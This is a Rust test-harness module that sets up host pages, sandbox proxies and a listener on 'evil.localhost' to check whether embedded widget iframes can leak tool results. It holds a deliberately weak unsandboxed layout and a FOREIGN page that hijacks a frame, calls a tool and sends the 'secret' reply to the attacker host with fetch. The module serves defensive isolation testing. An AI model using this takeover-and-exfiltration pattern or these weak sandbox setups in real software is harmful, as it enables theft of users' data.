//! The frames that other hosts put around widgets, as small as they can be: what the attacks are shown to work on.

use anyhow::{Context, Result};
use belljar_browsers::{Browser, Request, Response, Site};
use serde_json::{Value, json};

/// The host that gets what leaks. Every name under `localhost` is another site to a browser.
pub(crate) const EVIL: &str = "evil.localhost";

/// How the widget gets into its frame.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Layout {
    /// Written into a frame of the proxy's own origin, which is the host's but for its port; policy by the proxy's header.
    A,
    /// The same, with the proxy on another site.
    B,
    /// A policy put into the widget's text by search, a frame of the proxy's own origin, a proxy without limits.
    C,
    /// The same, with an opaque frame.
    D,
    /// No policy at all, and no `sandbox`.
    Open,
}

impl Layout {
    /// Where the proxy page is: host name, path, and whether it is on the second port.
    fn proxy(self) -> (&'static str, &'static str, bool) {
        match self {
            Self::A => ("localhost", "/written", true),
            Self::B => ("proxy.localhost", "/written", false),
            Self::C => ("proxy.localhost", "/searched", false),
            Self::D => ("proxy.localhost", "/opaque", false),
            Self::Open => ("proxy.localhost", "/open", false),
        }
    }
}

/// Servers for a host page, the proxies, and whoever listens for what leaks.
pub(crate) struct Layouts {
    site: Site,
    second: Site,
}

impl Layouts {
    pub(crate) fn start() -> Result<Self> {
        Ok(Self { site: Site::start(answer)?, second: Site::start(answer)? })
    }

    /// An address that nobody may reach.
    pub(crate) fn evil(&self, name: &str) -> String {
        self.site.url(EVIL, &format!("/{name}"))
    }

    /// Whether somebody was there, waited for.
    pub(crate) fn leaked(&self, name: &str) -> bool {
        let path = format!("/{name}");
        let there = |request: &Request| request.host == EVIL && request.path == path;
        self.site.wait_for(std::time::Duration::from_secs(5), there).is_some()
    }

    /// All that leaked so far.
    pub(crate) fn leaks(&self) -> Vec<String> {
        self.site.requests().into_iter().filter(|request| request.host == EVIL).map(|request| request.path).collect()
    }

    /// Opens a host page without widgets.
    pub(crate) fn open(&self, browser: &Browser) -> Result<()> {
        browser.goto(&self.site.url("localhost", "/"))?;
        browser.wait_for::<bool>("return globalThis.show !== undefined", ())?;
        Ok(())
    }

    /// Shows a widget that has its host's answers, as the last on the page.
    pub(crate) fn show(&self, browser: &Browser, layout: Layout, html: &str, domains: &Value) -> Result<()> {
        let (host, path, second) = layout.proxy();
        let proxy = if second { self.second.url(host, path) } else { self.site.url(host, path) };
        let args = json!({ "proxy": proxy, "html": html, "domains": domains });
        browser.run::<()>("await show(args)", args).with_context(|| format!("layout {layout:?}"))
    }
}

fn answer(request: &Request) -> Response {
    const POLICY: &str = "default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; frame-src 'none'";
    let proxy = |sandbox: &str, fill: &str| PROXY.replace("SANDBOX", sandbox).replace("FILL", fill);
    const WRITE: &str =
        "inner.contentDocument.open(); inner.contentDocument.write(html); inner.contentDocument.close()";
    const SEARCH: &str =
        "inner.srcdoc = /<head>/i.test(html) ? html.replace(/<head>/i, (head) => head + meta) : meta + html";
    const SAME: &str = "allow-scripts allow-same-origin allow-forms";
    match (request.host.as_str(), request.path.as_str()) {
        (EVIL, "/takes-over") => Response::html(FOREIGN),
        (EVIL, _) => Response::text("").header("access-control-allow-origin", "*"),
        (_, "/") => Response::html(HOST),
        (_, "/written") => Response::html(proxy(SAME, WRITE)).header("content-security-policy", POLICY),
        (_, "/searched") => Response::html(proxy(SAME, SEARCH)),
        (_, "/opaque") => Response::html(proxy("allow-scripts allow-forms", SEARCH)),
        (_, "/open") => Response::html(proxy("", "inner.removeAttribute('sandbox'); inner.srcdoc = html")),
        _ => Response::not_found(),
    }
}

/// It looks at who speaks, and not at which document speaks.
const HOST: &str = "<!doctype html><title>host</title><main></main><script>
    globalThis.show = ({ proxy, html, domains }) => new Promise((shown) => {
        const frame = document.createElement('iframe');
        addEventListener('message', ({ source, data }) => {
            if (source !== frame.contentWindow) return;
            const say = (message) => source.postMessage({ jsonrpc: '2.0', ...message }, '*');
            if (data.method === 'ui/notifications/sandbox-proxy-ready') say({ method: 'ui/notifications/sandbox-resource-ready', params: { html, domains } });
            else if (data.method === 'ui/initialize') { say({ id: data.id, result: {} }); shown() }
            else if (data.method === 'tools/call') say({ id: data.id, result: { content: [{ type: 'text', text: 'secret' }] } });
        });
        frame.src = proxy;
        document.querySelector('main').appendChild(document.createElement('section')).append(frame);
    });
</script>";

const PROXY: &str = "<!doctype html><title>proxy</title><body><script>
    const inner = document.createElement('iframe');
    inner.sandbox = 'SANDBOX';
    document.body.append(inner);
    addEventListener('message', ({ source, data }) => {
        if (source === inner.contentWindow) parent.postMessage(data, '*');
        else if (source === parent && data.method === 'ui/notifications/sandbox-resource-ready') fill(data.params);
        else if (source === parent) inner.contentWindow.postMessage(data, '*');
    });
    function fill({ html, domains }) {
        const connect = domains.map((domain) => domain.trim()).join(' ') || `'none'`;
        const policy = `default-src 'none'; script-src 'unsafe-inline' blob:; style-src 'unsafe-inline'; worker-src blob:; connect-src ${connect}`;
        const meta = `<meta http-equiv=\"Content-Security-Policy\" content=\"${policy}\">`;
        FILL;
    }
    parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {} }, '*');
</script>";

/// A page that has taken the widget's place, asks for a tool, and tells what it got.
const FOREIGN: &str = "<!doctype html><title>foreign</title><script>
    addEventListener('message', ({ data }) => { if (data.id === 'foreign' && data.result) fetch('/' + data.result.content[0].text) });
    parent.postMessage({ jsonrpc: '2.0', id: 'foreign', method: 'tools/call', params: { name: 't', arguments: {} } }, '*');
</script>";
